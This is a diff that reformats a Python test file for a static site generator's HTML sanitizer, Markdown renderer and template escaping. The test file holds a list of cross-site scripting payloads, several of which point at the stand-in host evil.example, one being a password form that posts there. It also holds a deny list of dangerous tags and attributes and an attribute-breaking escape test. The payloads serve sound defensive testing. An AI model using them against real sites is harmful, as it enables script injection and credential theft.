@@ -14,7 +14,7 @@ from tests.tools.sites import make_site, run_cli, write
 # -- the allow-list ---------------------------------------------------------------------
 
 ATTACKS = [
-    '<script>alert(1)</script>',
+    "<script>alert(1)</script>",
     '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
     '<img src="x.png" onerror="alert(1)">',
     '<b onclick="alert(1)" onmouseover="alert(2)">bold</b>',
@@ -27,15 +27,15 @@ ATTACKS = [
     '<iframe src="https://evil.example/"></iframe>',
     '<object data="x.swf"></object><embed src="x.swf">',
     '<svg onload="alert(1)"><script>alert(1)</script></svg>',
-    '<math><mtext><script>alert(1)</script></mtext></math>',
-    '<style>body{display:none}</style>',
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<style>body{display:none}</style>",
     '<div style="background:url(javascript:alert(1))">x</div>',
     '<form action="https://evil.example/"><input name="password"></form>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<base href="https://evil.example/">',
     '<link rel="stylesheet" href="https://evil.example/x.css">',
     '<p><a href="#" onfocus="alert(1)" autofocus>x</a></p>',
-    '<template><script>alert(1)</script></template>',
+    "<template><script>alert(1)</script></template>",
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
 ]
 
@@ -43,16 +43,38 @@ ATTACKS = [
 @pytest.mark.parametrize("html", ATTACKS)
 def test_attacks_leave_nothing_that_runs(html):
     clean = sanitize_html(html).lower()
-    for bad in ("<script", "javascript:", "vbscript:", "data:text", "onerror", "onclick", "onload", "onfocus",
-                "onmouseover", "<iframe", "<object", "<embed", "<svg", "<style", "style=", "<form", "<input",
-                "<meta", "<base", "<link", "evil.example/x.js"):
+    for bad in (
+        "<script",
+        "javascript:",
+        "vbscript:",
+        "data:text",
+        "onerror",
+        "onclick",
+        "onload",
+        "onfocus",
+        "onmouseover",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<svg",
+        "<style",
+        "style=",
+        "<form",
+        "<input",
+        "<meta",
+        "<base",
+        "<link",
+        "evil.example/x.js",
+    ):
         assert bad not in clean, f"{bad!r} survived in {clean!r}"
 
 
 def test_harmless_markup_is_kept():
-    html = ('<h2 id="goals">Goals</h2><p><abbr title="European Regional Development Fund">ERDF</abbr> '
-            'CO<sub>2</sub> m<sup>2</sup> <em>e</em> <strong>s</strong> <a href="../about/">about</a> '
-            '<a href="mailto:info@example.org">mail</a></p><ul><li>one</li></ul><img src="/assets/x.png" alt="x">')
+    html = (
+        '<h2 id="goals">Goals</h2><p><abbr title="European Regional Development Fund">ERDF</abbr> '
+        'CO<sub>2</sub> m<sup>2</sup> <em>e</em> <strong>s</strong> <a href="../about/">about</a> '
+        '<a href="mailto:info@example.org">mail</a></p><ul><li>one</li></ul><img src="/assets/x.png" alt="x">'
+    )
     assert sanitize_html(html) == html
 
 
@@ -63,8 +85,10 @@ def test_table_alignment_becomes_a_class_because_inline_styles_are_blocked():
 
 
 def test_external_links_get_noopener_and_internal_links_do_not():
-    clean = sanitize_html('<a href="https://example.org/">e</a> <a href="//example.org/">p</a> '
-                          '<a href="/en/about/">i</a> <a href="#x">f</a> <a href="mailto:a@b.c">m</a>')
+    clean = sanitize_html(
+        '<a href="https://example.org/">e</a> <a href="//example.org/">p</a> '
+        '<a href="/en/about/">i</a> <a href="#x">f</a> <a href="mailto:a@b.c">m</a>'
+    )
     assert clean.count('rel="noopener"') == 2
     assert '<a href="https://example.org/" rel="noopener">' in clean
     assert '<a href="//example.org/" rel="noopener">' in clean
@@ -76,13 +100,18 @@ def test_rel_from_the_editor_is_replaced():
 
 
 def test_noopener_copes_with_a_greater_than_sign_inside_an_attribute():
-    assert add_noopener('<a href="https://x.org" title="a &gt; b">x</a>') == \
-        '<a href="https://x.org" title="a &gt; b" rel="noopener">x</a>'
-    assert add_noopener('<a href="https://x.org" title="a > b">x</a>') == \
-        '<a href="https://x.org" title="a > b" rel="noopener">x</a>'
+    assert (
+        add_noopener('<a href="https://x.org" title="a &gt; b">x</a>')
+        == '<a href="https://x.org" title="a &gt; b" rel="noopener">x</a>'
+    )
+    assert (
+        add_noopener('<a href="https://x.org" title="a > b">x</a>')
+        == '<a href="https://x.org" title="a > b" rel="noopener">x</a>'
+    )
 
 
 # -- through the Markdown renderer ------------------------------------------------------
+
 
 def test_markdown_links_to_javascript_are_removed_even_though_they_are_not_raw_html():
     html = MarkdownRenderer().render("[click](javascript:alert(1)) and [ok](https://example.org/)")
@@ -127,14 +156,17 @@ def test_refuse_mode_reports_a_block_of_html(tmp_path):
     assert str(caught.value.problems[0]).startswith("p.md:6: raw HTML is not allowed here — found '<div>'")
 
 
-@pytest.mark.parametrize("text", [
-    "Plain **Markdown** with [a link](https://example.org/) and an image ![x](/assets/x.png).",
-    "Code is not HTML: `<b>bold</b>` and\n\n    <div>indented code</div>\n",
-    "Entities are text: &amp; &copy; &lt;b&gt;",
-    "A comment for editors <!-- not shown --> is removed, not refused.",
-    "An autolink <https://example.org/> and an address <info@example.org>.",
-    "Maths: 3 < 4 and 5 > 2.",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Plain **Markdown** with [a link](https://example.org/) and an image ![x](/assets/x.png).",
+        "Code is not HTML: `<b>bold</b>` and\n\n    <div>indented code</div>\n",
+        "Entities are text: &amp; &copy; &lt;b&gt;",
+        "A comment for editors <!-- not shown --> is removed, not refused.",
+        "An autolink <https://example.org/> and an address <info@example.org>.",
+        "Maths: 3 < 4 and 5 > 2.",
+    ],
+)
 def test_refuse_mode_accepts_what_is_not_raw_html(text):
     MarkdownRenderer("refuse").render(text)
 
@@ -147,8 +179,10 @@ def test_refuse_mode_stops_the_build_with_file_and_line(tmp_path):
     root = make_site(tmp_path)
     config = root / "site_config.yml"
     config.write_text(config.read_text(encoding="utf-8") + "markdown: {raw_html: refuse}\n", encoding="utf-8")
-    write(root / "content/en/about.md", "---\ntitle: About\nsummary: About the site.\n---\n\n## About\n\n"
-                                        "Our <marquee>news</marquee>.\n")
+    write(
+        root / "content/en/about.md",
+        "---\ntitle: About\nsummary: About the site.\n---\n\n## About\n\nOur <marquee>news</marquee>.\n",
+    )
     result = run_cli(root, "build")
     assert result.returncode == 1
     assert "content/en/about.md:8: raw HTML is not allowed here — found '<marquee>'" in result.stderr
@@ -158,8 +192,10 @@ def test_refuse_mode_stops_the_build_with_file_and_line(tmp_path):
 
 def test_sanitize_mode_builds_and_publishes_only_safe_html(tmp_path):
     root = make_site(tmp_path)
-    write(root / "content/en/about.md", "---\ntitle: About\nsummary: About the site.\n---\n\n"
-                                        'Our <b onclick="x()">news</b> <script>alert(1)</script>\n')
+    write(
+        root / "content/en/about.md",
+        '---\ntitle: About\nsummary: About the site.\n---\n\nOur <b onclick="x()">news</b> <script>alert(1)</script>\n',
+    )
     result = run_cli(root, "build")
     assert result.returncode == 0, result.stderr
     html = (root / "site/en/about/index.html").read_text(encoding="utf-8")
@@ -167,16 +203,21 @@ def test_sanitize_mode_builds_and_publishes_only_safe_html(tmp_path):
     assert "onclick" not in html and "alert(1)" not in html
 
 
-POLICY = ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
-          "object-src 'none'; base-uri 'none'; form-action 'self'")
+POLICY = (
+    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
+    "object-src 'none'; base-uri 'none'; form-action 'self'"
+)
 
 
 # -- template output is escaped ---------------------------------------------------------
 
+
 def test_titles_and_summaries_are_escaped_in_every_template(tmp_path):
     root = make_site(tmp_path)
-    write(root / "content/en/about.md", '---\ntitle: "<script>alert(1)</script> & co"\n'
-                                        'summary: "\\" onmouseover=\\"alert(2)"\n---\n\nText.\n')
+    write(
+        root / "content/en/about.md",
+        '---\ntitle: "<script>alert(1)</script> & co"\nsummary: "\\" onmouseover=\\"alert(2)"\n---\n\nText.\n',
+    )
     result = run_cli(root, "build")
     assert result.returncode == 0, result.stderr
     for path in sorted((root / "site").rglob("*.html")):
